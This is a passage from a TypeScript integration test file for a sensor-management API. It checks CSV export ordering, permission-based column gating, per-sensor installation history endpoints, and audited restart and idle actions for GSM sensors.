    expect(row).toMatchObject({ pm1_A: '-3.5', pm1_B: '-2', pm1_C: '0.5' });
    // No cell of the file starts a formula, except plain numbers.
    for (const cell of Object.values(row))
      if (/^[=+\-@\t\r]/.test(cell ?? '')) expect(cell).toMatch(/^[+-]?\d+(\.\d+)?$/);
  });

  it('keeps the list order for any sort key, across batch boundaries (one ordered query read in batches)', async () => {
    // microsecond timestamps and many equal keys make the keyset boundaries interesting
    await db().execute(
      sql`update sensors set created_at = now() - (id * 7 || ' microseconds')::interval where id % 3 = 0`,
    );
    const perms = new PermissionSet(['view_sensors', 'view_sensortoken', 'view_communication', 'view_contractors']);
    const keys: [string, SQL | AnyPgColumn][] = [
      ['id', sensors.id],
      ['status', sensors.status],
      ['contractorName', contractors.name],
      ['createdAt', sensors.createdAt],
      ['lastMeasurement', sensors.lastMeasurementAt],
      ['contractorId', sensors.contractorId],
      ['sensorToken', sensors.sensorToken],
    ];
    for (const [sortBy, expr] of keys) {
      for (const order of ['asc', 'desc'] as const) {
        const dir = order === 'desc' ? desc : asc;
        const expected = await db()
          .select({ id: sensors.id })
          .from(sensors)
          .leftJoin(contractors, eq(contractors.id, sensors.contractorId))
          .where(gt(sensors.id, 100))
          .orderBy(sql`${dir(expr)} nulls last`, dir(sensors.id));
        const plan = await planExport(db(), { sortBy, order, query: 'id > 100' }, perms);
        const chunks: Buffer[] = [];
        for await (const chunk of exportCsv(db(), plan, 37)) chunks.push(chunk);
        const text = Buffer.concat(chunks).toString('utf8');
        const { rows } = csvBody(text);
        expect(
          rows.map((r) => Number(r[0])),
          `${sortBy} ${order}`,
        ).toEqual(expected.map((r) => r.id));
      }
    }
    expect(SENSOR_COLUMNS.createdAt).toBe(sensors.createdAt);
  });

  it('shows only the columns the caller may see, and refuses bad queries before streaming', async () => {
    const token = await tokenWith(['view_sensors']);
    const res = await call('GET', '/api/sensors/export', { token });
    const { header, rows } = csvBody(res.text);
    expect(header).toEqual(['id', 'currentInstallationId', 'status', 'measured']);
    const [{ n }] = (await db().select({ n: count() }).from(sensors)) as [{ n: number }];
    expect(rows).toHaveLength(Number(n));

    const batch = await tagIdOf('sensors', 'Production batch');
    const some = await tokenWith(['view_sensors', 'view_owner', 'view_pm25_factors', `view_sensor_tag_${batch}`]);
    const gated = csvBody((await call('GET', '/api/sensors/export?query=id%20%3C%2010', { token: some })).text);
    expect(gated.header).toEqual([
      'id',
      'currentInstallationId',
      'contractorId',
      'contractorName',
      'status',
      'measured',
      'pm25_A',
      'pm25_B',
      'pm25_C',
      'tag.Production batch',
    ]);

    const bad = await call('GET', '/api/sensors/export?query=status%20%3D%3D');
    expect(bad.status).toBe(400);
    expect(bad.headers['content-type']).toMatch(/json/);
    expect((await call('GET', '/api/sensors/export?sortBy=nope')).status).toBe(400);
    expect((await call('GET', '/api/sensors/export?sortBy=sensorToken', { token })).status).toBe(400);
    expect((await call('GET', '/api/sensors/export', { token: await tokenWith(['view_installations']) })).status).toBe(
      403,
    );
  });
});

// ================================================================ history

describe('history', () => {
  it('GET /history/sensors/:id: one record per installation, newest first', async () => {
    const [moved] = await db()
      .select({ sensorId: installations.sensorId, n: count() })
      .from(installations)
      .groupBy(installations.sensorId)
      .having(sql`count(*) > 2`)
      .limit(1);
    const res = await call('GET', `/api/history/sensors/${moved!.sensorId}`);
    expect(res.status).toBe(200);
    const rows = await db()
      .select()
      .from(installations)
      .where(eq(installations.sensorId, moved!.sensorId))
      .orderBy(desc(installations.installationDate), desc(installations.id));
    expect(res.body.data.map((r: { id: number }) => r.id)).toEqual(rows.map((r) => r.id));
    const business = new Map(rows.map((r) => [r.id, r.installationId]));
    for (const [i, rec] of res.body.data.entries()) {
      const row = rows[i]!;
      expect(rec).toMatchObject({
        sensorId: row.sensorId,
        installationId: row.installationId,
        installationDate: row.installationDate.toISOString(),
        removedAt: row.removedAt?.toISOString() ?? null,
        isVisible: row.isVisible,
        mamsl: row.mamsl,
        location: { latitude: row.latitude, longitude: row.longitude },
        address: { city: row.city, street: row.street, cityLocal: row.cityLocal },
        contactEmail: row.contactEmail,
        installationRequestId: row.installationRequestId,
      });
      expect(rec.predecessorId).toBe(row.predecessorId ? business.get(row.predecessorId) : null);
      expect(rec.successorId).toBe(row.successorId ? business.get(row.successorId) : null);
    }
    expect(res.body.data.some((r: { predecessorId: number | null }) => r.predecessorId !== null)).toBe(true);
    expect((await call('GET', '/api/history/sensors/999999')).status).toBe(404);
  });

  it('gates address and contact fields, tags and factors like the installations list', async () => {
    const [row] = await db().select().from(installations).where(isNotNull(installations.contactEmail)).limit(1);
    const token = await tokenWith(['view_history_sensor', 'view_contact_email']);
    const rec = (await call('GET', `/api/history/sensors/${row!.sensorId}`, { token })).body.data[0];
    expect(rec.address).toBeUndefined();
    expect(rec.alternativeAddress1).toBeUndefined();
    expect(rec.contactFullName).toBeUndefined();
    expect(rec.contactPhoneNumber).toBeUndefined();
    expect('contactEmail' in rec).toBe(true);
    expect(rec.tags).toEqual({});
    expect(rec.factors).toEqual({});
    expect(
      (await call('GET', `/api/history/sensors/${row!.sensorId}`, { token: await t.tokenOf('sales') })).status,
    ).toBe(403);
  });

  it('GET /history/installations/:id (business number): every recorded state, newest first; /last the newest', async () => {
    const [busy] = await db()
      .select({ installationId: installationHistory.installationId, n: count() })
      .from(installationHistory)
      .groupBy(installationHistory.installationId)
      .having(sql`count(*) > 2`)
      .limit(1);
    const [row] = await db().select().from(installations).where(eq(installations.id, busy!.installationId));
    const res = await call('GET', `/api/history/installations/${row!.installationId}`);
    expect(res.status).toBe(200);
    expect(res.body.data).toHaveLength(Number(busy!.n));
    for (const rec of res.body.data)
      expect(rec).toMatchObject({ id: row!.id, installationId: row!.installationId, sensorId: row!.sensorId });
    const last = await call('GET', `/api/history/installations/${row!.installationId}/last`);
    expect(last.body).toEqual({ data: res.body.data[0] });
    const snaps = await db()
      .select({ snapshot: installationHistory.snapshot })
      .from(installationHistory)
      .where(eq(installationHistory.installationId, row!.id))
      .orderBy(desc(installationHistory.changedAt), desc(installationHistory.id));
    expect(res.body.data.map((r: { contactEmail: string | null }) => r.contactEmail)).toEqual(
      snaps.map((s) => s.snapshot.contactEmail),
    );
    expect((await call('GET', '/api/history/installations/1')).status).toBe(404);
    expect((await call('GET', '/api/history/installations/1/last')).status).toBe(404);
  });

  it('GET /history/contractors/:id: the installations of a contractor', async () => {
    const [c] = await db()
      .select({ contractorId: installations.contractorId, n: count() })
      .from(installations)
      .where(isNotNull(installations.contractorId))
      .groupBy(installations.contractorId)
      .orderBy(desc(count()))
      .limit(1);
    const sales = await t.tokenOf('sales');
    const res = await call('GET', `/api/history/contractors/${c!.contractorId}`, { token: sales });
    expect(res.status).toBe(200);
    expect(res.body.data.installations).toHaveLength(Number(c!.n));
    const [name] = await db()
      .select({ name: contractors.name })
      .from(contractors)
      .where(eq(contractors.id, c!.contractorId!));
    for (const rec of res.body.data.installations)
      expect(rec.contractor).toEqual({ id: c!.contractorId, name: name!.name });
    expect((await call('GET', '/api/history/contractors/999999')).status).toBe(404);
    expect(
      (
        await call('GET', `/api/history/contractors/${c!.contractorId}`, {
          token: await tokenWith(['view_history_sensor']),
        })
      ).status,
    ).toBe(403);
  });
});

// ================================================================ GSM updater actions

describe('GSM updater: restart and idle', () => {
  async function gsmSensorWith(status: string, offset = 0) {
    const [r] = await db()
      .select({ id: updaterSensors.sensorId })
      .from(updaterSensors)
      .innerJoin(sensors, eq(sensors.id, updaterSensors.sensorId))
      .where(and(eq(updaterSensors.family, 'gsm'), eq(updaterSensors.status, status), ne(sensors.status, 'Retired')))
      .orderBy(asc(updaterSensors.sensorId))
      .offset(offset)
      .limit(1);
    return r!.id;
  }
  const updaterStatus = async (id: number) =>
    (
      await db()
        .select()
        .from(updaterSensors)
        .where(and(eq(updaterSensors.family, 'gsm'), eq(updaterSensors.sensorId, id)))
    )[0]!;

  it('restart: Ok or Failed → RestartRequired, audited; refused otherwise', async () => {
    for (const from of ['Ok', 'Failed']) {
      const id = await gsmSensorWith(from);
      const res = await call('POST', `/updater/gsm/sensors/${id}/restart`);
      expect(res.body).toEqual({ data: { id, status: 'RestartRequired' } });
      expect((await updaterStatus(id)).status).toBe('RestartRequired');
      expect((await lastAudit(db(), 'RestartDevice'))!.message).toBe(
        `Sensor restart triggered for Sensor ID ${id} (was ${from})`,
      );
      const again = await call('POST', `/updater/gsm/sensors/${id}/restart`);
      expect(again.body).toEqual({
        status: 409,
        message: `Sensor ${id} is RestartRequired; restart needs Ok or Failed`,
      });
      const status = await call('GET', `/updater/gsm/sensors/${id}`);
      expect(status.body.data.status).toBe('RestartRequired');
    }
    const updating = await gsmSensorWith('Updating');
    expect((await call('POST', `/updater/gsm/sensors/${updating}/restart`)).body.message).toBe(
      `Sensor ${updating} is Updating; restart needs Ok or Failed`,
    );
  });

  it('idle: IdleRequired until now + 30 minutes, audited', async () => {
    const id = await gsmSensorWith('Ok', 3);
    const before = Date.now();
    const res = await call('POST', `/updater/gsm/sensors/${id}/idle`);
    expect(res.body).toEqual({ data: { id, status: 'IdleRequired' } });
    const row = await updaterStatus(id);
    expect(row.status).toBe('IdleRequired');
    expect(row.idleUntil!.getTime()).toBeGreaterThanOrEqual(before + 30 * 60_000);
    expect(row.idleUntil!.getTime()).toBeLessThanOrEqual(Date.now() + 30 * 60_000);
    expect((await lastAudit(db(), 'IdleDevice'))!.message).toContain(`Sensor idle triggered for Sensor ID ${id}`);
    expect((await call('POST', `/updater/gsm/sensors/${id}/idle`)).body.message).toBe(
      `Sensor ${id} is IdleRequired; idle needs Ok or Failed`,
    );
    expect((await call('POST', `/updater/gsm/sensors/${id}/restart`)).status).toBe(409);
  });

  it('only for GSM and NBIOT sensors the updater knows, with restart_sensors', async () => {
    const [wifi] = await db()
      .select({ id: sensors.id })
      .from(sensors)
      .where(eq(sensors.communication, 'WIFI'))
      .limit(1);
    const res = await call('POST', `/updater/gsm/sensors/${wifi!.id}/restart`);
    expect(res.body).toEqual({
      status: 422,
      message: `Sensor ${wifi!.id} uses WIFI; restart is only for GSM and NBIOT sensors`,
    });
    expect((await call('POST', `/updater/gsm/sensors/${wifi!.id}/idle`)).status).toBe(422);
    expect((await call('POST', '/updater/gsm/sensors/999999/restart')).status).toBe(404);
    const [unknown] = await db()
      .select({ id: sensors.id })
      .from(sensors)
      .leftJoin(updaterSensors, and(eq(updaterSensors.sensorId, sensors.id), eq(updaterSensors.family, 'gsm')))
      .where(and(eq(sensors.communication, 'GSM'), isNull(updaterSensors.sensorId), ne(sensors.status, 'Retired')))
      .limit(1);
    if (unknown) expect((await call('POST', `/updater/gsm/sensors/${unknown.id}/restart`)).status).toBe(404);
    const id = await gsmSensorWith('Ok', 5);
    const viewer = await t.tokenOf('viewer');
    expect((await call('POST', `/updater/gsm/sensors/${id}/restart`, { token: viewer })).status).toBe(403);
    expect((await updaterStatus(id)).status).toBe('Ok');
    const technician = await t.tokenOf('technician');
    expect((await call('POST', `/updater/gsm/sensors/${id}/restart`, { token: technician })).status).toBe(200);
  });
});
